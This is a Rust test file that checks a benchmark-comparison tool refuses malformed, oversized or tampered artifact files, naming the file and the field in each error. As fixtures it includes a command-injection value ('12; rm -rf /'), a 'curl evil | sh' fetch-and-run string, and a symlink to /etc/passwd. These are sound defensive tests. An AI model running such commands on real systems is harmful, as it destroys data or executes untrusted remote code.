//! Tests of the artifact as untrusted input: each malformed, oversized or lying file is
//! refused with a message that names the file and the field.

use super::*;

fn comparison() -> Comparison {
    serde_json::from_str(include_str!("../../../tests/github/comparison.json")).unwrap()
}

const HEAD: &str = "89abcdef0123456789abcdef0123456789abcdef";
const BASE: &str = "0123456789abcdef0123456789abcdef01234567";

fn written() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    write(dir.path(), &comparison(), "# md\n", 12, HEAD, BASE).unwrap();
    dir
}

fn refused(dir: &Path) -> String {
    match read(dir) {
        Ok(_) => panic!("the artifact in {} was accepted", dir.display()),
        Err(error) => format!("{error:#}"),
    }
}

#[test]
fn what_is_written_is_read_back() {
    let dir = written();
    let artifact = read(dir.path()).unwrap();
    assert_eq!(artifact.pull_request, 12);
    assert_eq!(artifact.head_sha, HEAD);
    assert_eq!(artifact.base_sha, BASE);
    // The same comparison (serde_json's float parsing may differ in the last bit).
    let json = |c: &Comparison| serde_json::to_string(c).unwrap().len();
    assert_eq!(
        artifact.comparison.entries.len(),
        comparison().entries.len()
    );
    assert_eq!(artifact.comparison.summary, comparison().summary);
    assert!(json(&artifact.comparison).abs_diff(json(&comparison())) < 8);
}

fn with_pr(number: &str, head: &str) -> tempfile::TempDir {
    let dir = written();
    std::fs::write(
        dir.path().join(PULL_REQUEST_FILE),
        format!(
            r#"{{"schema": "versus.pull-request/1", "number": {number}, "head_sha": "{head}", "base_sha": "{BASE}"}}"#
        ),
    )
    .unwrap();
    dir
}

#[test]
fn a_pull_request_number_must_be_a_positive_integer() {
    for bad in [
        "-3",
        "0",
        "\"12; rm -rf /\"",
        "\"twelve\"",
        "1.5",
        "null",
        "[12]",
        "99999999999999",
    ] {
        let error = refused(with_pr(bad, HEAD).path());
        assert!(
            error.contains("pull-request.json") && error.contains("number"),
            "{bad}: {error}"
        );
    }
    // A number given as digits in a string is the same number.
    assert_eq!(
        read(with_pr("\"12\"", HEAD).path()).unwrap().pull_request,
        12
    );
    for bad in ["-3", "0", "abc", "", "12abc", "1e3", "+4"] {
        assert!(parse_number(bad).is_err(), "{bad}");
    }
    assert_eq!(parse_number("4096").unwrap(), 4096);
}

#[test]
fn shas_must_be_full_and_lowercase_and_fields_known() {
    for bad in [
        "HEAD",
        "89abcdef",
        &HEAD.to_uppercase(),
        "89abcdef0123456789abcdef0123456789abcdeg",
    ] {
        let error = refused(with_pr("12", bad).path());
        assert!(error.contains("head_sha"), "{bad}: {error}");
    }
    let dir = written();
    std::fs::write(
        dir.path().join(PULL_REQUEST_FILE),
        format!(r#"{{"schema": "versus.pull-request/1", "number": 1, "head_sha": "{HEAD}", "base_sha": "{BASE}", "run": "curl evil | sh"}}"#),
    )
    .unwrap();
    assert!(
        refused(dir.path()).contains("unknown field"),
        "{}",
        refused(dir.path())
    );
}

#[test]
fn a_broken_comparison_is_refused_naming_the_place() {
    let dir = written();
    let path = dir.path().join(COMPARISON_FILE);
    let text = std::fs::read_to_string(&path).unwrap();

    std::fs::write(&path, &text[..text.len() / 2]).unwrap();
    let error = refused(dir.path());
    assert!(
        error.contains("comparison.json") && error.contains("truncated"),
        "{error}"
    );

    std::fs::write(&path, text.replace("versus.compare/1", "versus.compare/9")).unwrap();
    let error = refused(dir.path());
    assert!(
        error.contains("versus.compare/9") && error.contains("this build reads"),
        "{error}"
    );

    let edited = |edit: &dyn Fn(&mut serde_json::Value)| {
        let mut value: serde_json::Value = serde_json::from_str(&text).unwrap();
        edit(&mut value);
        value.to_string()
    };
    std::fs::write(
        &path,
        edited(&|v| v["entries"][0]["base"]["estimate"] = "fast".into()),
    )
    .unwrap();
    let error = refused(dir.path());
    assert!(error.contains("entries[0].base.estimate"), "{error}");

    std::fs::write(
        &path,
        edited(&|v| v["entries"][0]["ratio"]["estimate"] = (-1.0).into()),
    )
    .unwrap();
    let error = refused(dir.path());
    assert!(
        error.contains("entries[0]") && error.contains("ratio"),
        "{error}"
    );

    std::fs::write(&path, format!("{text} {{}}")).unwrap();
    assert!(
        refused(dir.path()).contains("after the JSON"),
        "{}",
        refused(dir.path())
    );

    std::fs::write(&path, [0xff, 0xfe, b'{']).unwrap();
    assert!(
        refused(dir.path()).contains("not UTF-8"),
        "{}",
        refused(dir.path())
    );
}

#[test]
fn oversized_files_and_links_are_not_read() {
    let dir = written();
    let path = dir.path().join(COMPARISON_FILE);
    let file = std::fs::OpenOptions::new().write(true).open(&path).unwrap();
    file.set_len(MAX_COMPARISON_BYTES + 1).unwrap();
    let error = refused(dir.path());
    assert!(error.contains("over the"), "{error}");

    let dir = written();
    let pr = dir.path().join(PULL_REQUEST_FILE);
    std::fs::remove_file(&pr).unwrap();
    std::os::unix::fs::symlink("/etc/passwd", &pr).unwrap();
    let error = refused(dir.path());
    assert!(error.contains("not a regular file"), "{error}");

    let dir = written();
    std::fs::remove_file(dir.path().join(COMPARISON_FILE)).unwrap();
    let error = refused(dir.path());
    assert!(
        error.contains("comparison.json") && error.contains("complete"),
        "{error}"
    );
}
